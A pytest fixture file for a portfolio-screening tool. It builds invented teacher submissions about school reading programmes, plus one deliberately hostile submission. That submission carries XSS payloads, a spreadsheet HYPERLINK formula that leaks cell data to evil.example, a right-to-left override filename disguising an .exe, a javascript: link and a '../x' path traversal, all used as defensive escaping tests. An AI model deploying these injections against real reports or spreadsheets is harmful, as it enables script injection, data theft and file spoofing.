"""Screenings as the reports get them: four invented submissions, one of them hostile, against an invented rubric."""

from __future__ import annotations

import hashlib
from collections.abc import Callable
from dataclasses import dataclass

import pytest

from mcscreen.results import (
    Citation,
    Coverage,
    DocumentRecord,
    Evidence,
    Indicator,
    OutcomeSpread,
    Reflection,
    ReflectionRate,
    ReflectionSentence,
    Requirement,
    RubricRecord,
    Screening,
    SectionRecord,
    SubmissionRecord,
    WordCount,
)
from mcscreen.rubric import Criterion, Detail, Facet, Outcome, Part, Rubric, Source

_QUESTIONS = {
    "A1": (
        "Which routines have you built so that every student reads something of their own choice each day, at school and at home?",
        ("school", "home", "choice", "reluctant"),
    ),
    "A2": (
        "How have you involved colleagues and families in the plan? What worked, what did not, and what would you change?",
        ("colleagues", "families", "worked", "not_worked", "change"),
    ),
    "A3": (
        "How do you notice and make visible what students achieve as readers? Explain what mattered most to them.",
        ("notice", "visible", "mattered"),
    ),
    "A4": (
        "By which steps did you plan, watch over and adjust the programme, and what is different for students now? Give examples.",
        ("plan", "watch", "adjust", "examples"),
    ),
}
_ASKS = {
    "school": ("Reading at school", "names a daily routine for reading at school"),
    "home": ("Reading at home", "names something that supports reading at home"),
    "choice": ("Own choice", "says how students choose what they read"),
    "reluctant": ("Reluctant readers", "describes support for students who avoid reading"),
    "colleagues": ("Colleagues", "describes how colleagues take part in planning and carry it on"),
    "families": ("Families", "describes how families take part"),
    "worked": ("What worked", "says what worked"),
    "not_worked": ("What did not work", "says what did not work"),
    "change": ("What to change", "says what they would do differently"),
    "notice": ("Noticing", "describes how achievements of readers are noticed"),
    "visible": ("Making visible", "describes how achievements are made visible to others"),
    "mattered": ("What mattered most", "explains what mattered most to students, and why"),
    "plan": ("Planning", "describes the steps by which the programme was planned"),
    "watch": ("Watching over", "describes how the programme is watched over, and with which data"),
    "adjust": ("Adjusting", "describes an adjustment and the reason for it"),
    "examples": ("Examples", "gives examples of what is different for students now"),
    "example1": ("Example, outcome 1", "gives an example of applying outcome 1"),
    "example2": ("Example, outcome 2", "gives an example of applying outcome 2"),
    "example3": ("Example, outcome 3", "gives an example of applying outcome 3"),
    "impact": ("Impact on self", "reflects on how their own practice and beliefs have shifted"),
    "future": ("Next steps", "says how they will go on with it"),
    "voices": ("Voices of others", "quotes students, families or colleagues"),
    "data": ("Data", "brings in figures from before and after"),
}
_DETAILS = {
    "O1": ("Every student reads daily", {"O1.time": "time set aside", "O1.access": "access to books", "O1.choice": "real choice"}),
    "O2": ("Adults share the work", {"O2.staff": "roles of staff", "O2.families": "families as partners", "O2.training": "training"}),
    "O3": ("Growth is seen", {"O3.records": "records of reading", "O3.celebration": "celebration"}),
    "O4": ("The programme lasts", {"O4.plan": "a written plan", "O4.review": "a yearly review"}),
}
_QUOTES = (
    "Each morning the whole school stops for twenty minutes, and nobody, not even the office, answers the telephone while we read.",
    "On Fridays a canvas bag with three books goes home with each child, and it comes back on Monday with a slip that says which of "
    "them was worth the weight.",
    "I had put the shelves in order by level, and the children, very politely, went around them.",
    "What did not work was the log: families signed it in the car park, and we learnt more about pens than about reading.",
    "Marisol had not finished a book in two years. We began with bus timetables, because she likes to know when things leave.",
    "Our aide, Mr. Teague, runs the corridor library on his own; he orders, he lends, and he tells me what I have got wrong.",
    "The wall by the gym carries one line from each reader a month, in their own hand, and visitors now arrive early to read it.",
    "In October we counted 41 students who borrowed nothing; by March there were nine, and we know each of the nine by name.",
    "If I began again I would ask the sixth grade first, and order the cushions last.",
    "We meet for half an hour every second Tuesday with the loans of the fortnight on the table, and we change one thing at a time.",
    "A father wrote that it was the first time he had been read to since he was small, and that it was his daughter who did it.",
    "I used to think of reluctance as a fault in the reader; now I look at the shelf first.",
    "Next year the two new teachers will run the reading council, and I will sit at the back and keep quiet.",
    "Students told us that the certificates meant little, but that hearing their recommendation read out at lunch meant a lot.",
)
_HEADINGS = ("Mornings", "Books that go home", "What I would change", "Our Tuesday meetings", None)


@dataclass(frozen=True)
class Hostile:
    """Strings that must come out as text."""

    script: str = "<script>alert(1)</script><img src=x onerror=alert(2)>"
    formula: str = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    override: str = "report\u202efdp.exe"
    long_word: str = "w" * 10_000
    emoji: str = "👩🏽‍🏫 liest 📚 – ünïcödé, 読書"
    pipe: str = "a | b `c` [link](javascript:alert(1)) **bold** https://evil.example"
    identifier: str = "../x"


def profile(quote: str) -> Reflection:
    """The profile of a reflection of forty sentences, one of which is quoted."""
    rates = {
        name: ReflectionRate(name=name, count=count, per_100=2.5 * count, low=2.0 * count, high=3.5 * count, expected_per_100=2.4 * count)
        for name, count in {"experience": 12, "learning": 1, "other": 20, "uncertain": 7, "deep": 4, "describe": 12}.items()
    }
    evidence = Evidence(document="Part 3.docx", paragraph=4, start=10, end=10 + len(quote), quote=quote, score=0.91)
    return Reflection(
        sentences=40,
        labels=tuple(rates[n] for n in ("experience", "learning", "other", "uncertain")),
        groups=(rates["describe"],),
        deep=rates["deep"],
        breadth=2,
        thirds=(1, 0, 3),
        spread=0.51,
        outcomes=(OutcomeSpread(outcome="EO1", sentences=3, deep=1),),
        shown=(ReflectionSentence(label="learning", evidence=evidence),),
        indicators=(
            Indicator(name="evaluation", count=2, per_100=5.0, kinds={"did_not": 1, "worked": 1}, evidence=(evidence,)),
            Indicator(name="readability", count=0, per_100=0.0, figures={"words_per_sentence": 14.25}),
        ),
    )


@pytest.fixture
def profile_quoting() -> Callable[[str], Reflection]:
    return profile


@pytest.fixture(scope="session")
def hostile() -> Hostile:
    return Hostile()


@pytest.fixture(scope="session")
def rubric() -> Rubric:
    def facet(criterion: str, name: str) -> Facet:
        label, text = _ASKS[name]
        return Facet(id=f"{criterion}.{name}", text=text, label=label, required=name not in ("voices", "data"))

    narrative = Part(
        id="P1",
        title="Part 1. Narrative",
        kind="narrative",
        minimum_words=1000,
        criteria=tuple(Criterion(id=q, text=text, facets=tuple(facet(q, n) for n in names)) for q, (text, names) in _QUESTIONS.items()),
    )
    reflection = Part(
        id="P3",
        title="Part 3. Reflection",
        kind="reflection",
        minimum_words=500,
        criteria=(
            Criterion(
                id="B",
                text="Sum up what you have learnt, with examples for the outcomes, and say how you will go on.",
                facets=tuple(facet("B", n) for n in list(_ASKS)[16:]),
            ),
        ),
    )
    return Rubric(
        schema=1,
        id="reading-culture",
        title="Growing a Culture of Reading",
        source=Source(title="Invented for the tests"),
        outcomes=tuple(
            Outcome(id=o, text=text, details=tuple(Detail(id=d, text=t) for d, t in details.items()))
            for o, (text, details) in _DETAILS.items()
        ),
        parts=(narrative, Part(id="P2", title="Part 2. Portfolio", kind="portfolio"), reflection),
    )


def _sha(text: str) -> str:
    return hashlib.sha256(text.encode("utf-8", "surrogatepass")).hexdigest()


def _document(name: str, part: str | None, words: int = 0, status: str = "text", reason: str = "", **more: object) -> DocumentRecord:
    values: dict[str, object] = {"reader": "python-docx 1.2", "pages": None, "sha256": _sha(name)} | more
    return DocumentRecord.model_validate({"name": name, "part": part, "status": status, "reason": reason, "words": words} | values)


def _section(part: str, basis: str, guessed: bool = False) -> SectionRecord:
    return SectionRecord.model_validate({"part": part, "start": 0, "end": 900, "basis": basis, "guessed": guessed})


def _evidence(number: int, document: str, score: float, **more: object) -> Evidence:
    quote = str(more.pop("quote", _QUOTES[number % len(_QUOTES)]))
    values: dict[str, object] = {"heading": _HEADINGS[number % len(_HEADINGS)], "paragraph": number % 31 + 1} | more
    return Evidence.model_validate(
        {"document": document, "start": number * 40, "end": number * 40 + len(quote), "quote": quote, "score": score} | values
    )


def _coverage(rubric: Rubric, documents: dict[str, str], statuses: str) -> tuple[Coverage, ...]:
    """`statuses`: one letter a facet, c(overed), t(hin), n(ot found), u(nread)."""
    names = {"c": ("covered", 0.86), "t": ("thin", 0.47), "n": ("not_found", 0.18), "u": ("unread", None)}
    rows: list[Coverage] = []
    asked = [(p, c, f) for p in rubric.parts for c in p.criteria for f in c.facets]
    for number, ((part, criterion, facet), letter) in enumerate(zip(asked, statuses, strict=True)):
        status, score = names[letter]
        evidence: tuple[Evidence, ...] = ()
        message = "The file that would hold this part is a scan; its text was not recognised." if letter == "u" else ""
        if score is not None:
            score = round(score - number % 7 / 60, 2)
            cues = {"t": ("restates the question",), "n": ("names the topic only",)}.get(letter, ())
            evidence = tuple(
                _evidence(number * 3 + i, documents[part.id], round(score - i * 0.03, 2), cues=cues if i == 0 else ()) for i in range(3)
            )
        rows.append(
            Coverage.model_validate(
                {
                    "part": part.id,
                    "criterion": criterion.id,
                    "facet": facet.id,
                    "required": facet.required,
                    "status": status,
                    "score": score,
                    "message": message,
                    "evidence": evidence,
                }
            )
        )
    return tuple(rows)


def _citations(rubric: Rubric, artifact: str, statuses: dict[str, str]) -> tuple[Citation, ...]:
    messages = {
        "artifact_missing": "No file is called “Appendix C”; there are “Reading plan.pdf” and “Loans.xlsx”.",
        "out_of_range": "Page 61 is named; “Reading plan.pdf” has 14 pages.",
        "unrelated": "Page 2 speaks of the bus schedule.",
        "no_locator": "The row names the artifact and no place in it.",
        "no_explanation": "The explanation is empty.",
        "cannot_verify": "The place is in a video without captions: look at 4:10 yourself.",
        "row_missing": "Nearest passages in the artifacts are shown.",
    }
    rows: list[Citation] = []
    for number, detail in enumerate(rubric.details, 1):
        status = statuses.get(detail.id, "ok")
        missing = status == "row_missing"
        rows.append(
            Citation.model_validate(
                {
                    "row": None if missing else number,
                    "detail": "" if missing else detail.text.capitalize(),
                    "facet": detail.id,
                    "artifact": "" if missing else "Appendix C" if status == "artifact_missing" else artifact,
                    "locator": "" if missing or status == "no_locator" else f"page {61 if status == 'out_of_range' else number + 1}",
                    "explanation": ""
                    if missing or status == "no_explanation"
                    else f"This page shows how {detail.text} is arranged: the table lists who does what, and the note below it was written "
                    "by the reading council after the first term.",
                    "status": status,
                    "score": None if status in ("cannot_verify", "artifact_missing") else 0.31 if status == "unrelated" else 0.74,
                    "message": messages.get(status, ""),
                    "evidence": ()
                    if status in ("cannot_verify", "artifact_missing")
                    else (_evidence(number, artifact, 0.74, page=number + 1, heading=None, paragraph=None),),
                }
            )
        )
    return tuple(rows)


def _requirement(check: str, subject: str, status: str, message: str) -> Requirement:
    return Requirement.model_validate({"check": check, "subject": subject, "status": status, "message": message})


def _screening(rubric: Rubric, identifier: str, **more: object) -> Screening:
    documents = more.pop("documents")
    return Screening.model_validate(
        {
            "fingerprint": _sha("settings")[:16],
            "calibration": "uncalibrated: no decisions of assessors for this rubric yet",
            "rubric": RubricRecord(id=rubric.id, sha256=_sha(rubric.id), title=rubric.title),
            "submission": SubmissionRecord.model_validate({"id": identifier, "documents": documents}),
        }
        | more
    )


def _words(own1: int | None, own3: int | None) -> tuple[WordCount, ...]:
    return tuple(
        WordCount(part=part, own=own, raw=own + 147, minimum=minimum)
        for part, own, minimum in (("P1", own1, 1000), ("P2", 610, None), ("P3", own3, 500))
        if own is not None
    )


def _common(own1: int, own3: int) -> list[Requirement]:
    return [
        _requirement("parts_present", "P1", "met", "Part 1 was found."),
        _requirement("parts_present", "P2", "met", "Part 2 was found."),
        _requirement("parts_present", "P3", "met", "Part 3 was found."),
        *(
            _requirement(
                "minimum_words",
                part,
                "met" if own >= minimum else "flagged",
                f"{own:,} own words; {minimum:,} are asked for." + ("" if own >= minimum else f" {minimum - own:,} are missing."),
            )
            for part, own, minimum in (("P1", own1, 1000), ("P3", own3, 500))
        ),
    ]


@pytest.fixture(scope="session")
def screenings(rubric: Rubric, hostile: Hostile) -> tuple[Screening, ...]:
    one, three, plan = "Part 1 Narrative.docx", "Part 3 Reflection.docx", "Artifacts/Reading plan.pdf"
    pdf = {"reader": "pypdfium2 5.15", "pages": 14, "page_kind": "page", "format": "pdf"}
    complete = _screening(
        rubric,
        "2024-031_Okonkwo",
        documents=(
            _document(one, "P1", 1388, sections=(_section("P1", "name"),)),
            _document("Part 2 Self-analysis.docx", "P2", 640, sections=(_section("P2", "name"),)),
            _document(three, "P3", 702, sections=(_section("P3", "name"),)),
            _document(plan, "artifact", 3120, sections=(_section("artifact", "folder"),), **pdf),
        ),
        words=_words(1241, 655),
        requirements=tuple(_common(1241, 655)),
        coverage=_coverage(rubric, {"P1": one, "P3": three}, "cccccctccccccccc" + "cccccnt"),
        citations=_citations(rubric, plan, {}),
        reflection=profile("We moved the meeting to the library."),
    )
    essay = "my essay FINAL (2).docx"
    thin = _screening(
        rubric,
        "2024-032 Brandt, Jo",
        documents=(
            _document(essay, "P1+P3", 1410, sections=(_section("P1", "content", True), _section("P3", "assumed", True))),
            _document("Reading plan.pdf", "artifact", 2104, "partial", "pages 9 to 14 are pictures without text", **pdf),
            _document("lesson.mp4", "artifact", 0, "empty", "the video has no captions", reader="pymediainfo 7", seconds=731.0),
            _document("old notes.doc", None, 0, "unsupported", "save it as .docx or PDF and screen it again", reader=""),
        ),
        words=_words(862, 512),
        requirements=(
            *_common(862, 512),
            _requirement(
                "template_text", essay, "unchecked", "The template of this rubric is not known, so its text could not be left out."
            ),
            _requirement("documents_readable", "old notes.doc", "flagged", "This file could not be read: format not supported."),
        ),
        coverage=_coverage(rubric, {"P1": essay, "P3": essay}, "ctcncctncctntccn" + "ctnccnn"),
        citations=_citations(
            rubric,
            "Reading plan.pdf",
            {
                "O1.access": "unrelated",
                "O1.choice": "no_locator",
                "O2.staff": "out_of_range",
                "O2.training": "artifact_missing",
                "O3.records": "cannot_verify",
                "O3.celebration": "no_explanation",
                "O4.review": "row_missing",
            },
        ),
    )
    scan = _screening(
        rubric,
        "2024-033_Lindqvist",
        documents=(
            _document("Scan_0001.pdf", "P1", 0, "needs_ocr", "14 pages, all of them pictures; switch OCR on or ask for the text", **pdf),
            _document(three, "P3", 590, sections=(_section("P3", "heading"),)),
        ),
        words=_words(None, 548),
        requirements=(
            _requirement("minimum_words", "P1", "unchecked", "The file could not be read, so its words were not counted."),
            _requirement("minimum_words", "P3", "met", "548 own words; 500 are asked for."),
        ),
        coverage=_coverage(rubric, {"P1": "", "P3": three}, "u" * 16 + "cctccnn"),
    )
    hostile_quotes = (hostile.script, hostile.formula, hostile.override, hostile.long_word, hostile.emoji, hostile.pipe)
    attack = _coverage(rubric, {"P1": hostile.override, "P3": hostile.script}, "ctncccccccccccccccccccc")
    attack = tuple(
        c.model_copy(
            update={"evidence": tuple(e.model_copy(update={"quote": q, "heading": q[:60]}) for e in c.evidence), "message": q[:200]}
        )
        for c, q in zip(attack, hostile_quotes * 4, strict=False)
    )
    evil = _screening(
        rubric,
        hostile.identifier,
        documents=tuple(_document(q[:200], "P1", 10, reason=q[:200]) for q in hostile_quotes),
        words=_words(1001, 501),
        requirements=tuple(_requirement("minimum_words", q[:200], "flagged", q) for q in hostile_quotes),
        coverage=attack,
        citations=tuple(
            Citation(
                row=n,
                detail=q[:300],
                facet=None,
                artifact=q[:200],
                locator=q[:200],
                explanation=q,
                status="unrelated",
                score=-0.25,
                message=q,
            )
            for n, q in enumerate(hostile_quotes, 1)
        ),
        reflection=profile(hostile.script),
    )
    return (complete, thin, scan, evil)
